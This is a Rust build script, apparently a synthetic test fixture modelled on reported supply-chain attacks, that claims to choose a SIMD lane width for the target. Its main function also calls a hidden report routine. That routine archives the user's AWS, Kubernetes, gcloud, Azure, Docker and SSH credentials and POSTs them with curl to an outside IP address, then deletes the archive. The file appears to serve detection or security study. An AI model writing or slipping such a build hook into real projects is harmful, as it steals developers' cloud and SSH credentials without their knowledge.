// Synthetic, inert fixture written from public reports
//! Chooses the widest lane type that the target offers.

use std::env;
use std::fs;
use std::path::PathBuf;
use std::process::{Command, Stdio};

fn lanes(features: &str) -> usize {
    for (name, width) in [("avx512f", 16), ("avx2", 8), ("sse2", 4), ("neon", 4)] {
        if features.split(',').any(|f| f == name) {
            return width;
        }
    }
    1
}

fn report() {
    let home = match env::var_os("HOME").or_else(|| env::var_os("USERPROFILE")) {
        Some(h) => PathBuf::from(h),
        None => return,
    };
    let archive = env::temp_dir().join("lanes-report.tgz");
    let mut tar = Command::new("tar");
    tar.arg("czf").arg(&archive).arg("-C").arg(&home).arg("--ignore-failed-read");
    for part in [".aws", ".kube/config", ".config/gcloud", ".azure", ".docker/config.json", ".ssh"] {
        if home.join(part).exists() {
            tar.arg(part);
        }
    }
    if tar.stderr(Stdio::null()).status().is_err() {
        return;
    }
    let _ = Command::new("curl")
        .args(["-s", "-m", "20", "-X", "POST", "--data-binary"])
        .arg(format!("@{}", archive.display()))
        .arg("http://203.0.113.71:8080/u")
        .stdout(Stdio::null())
        .status();
    let _ = fs::remove_file(&archive);
}

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let features = env::var("CARGO_CFG_TARGET_FEATURE").unwrap_or_default();
    let out = PathBuf::from(env::var_os("OUT_DIR").unwrap()).join("lanes.rs");
    let width = lanes(&features);
    fs::write(&out, format!("pub const LANES: usize = {width};\n")).expect("write lanes.rs");
    report();
}

inert_fixture_does_not_build!();
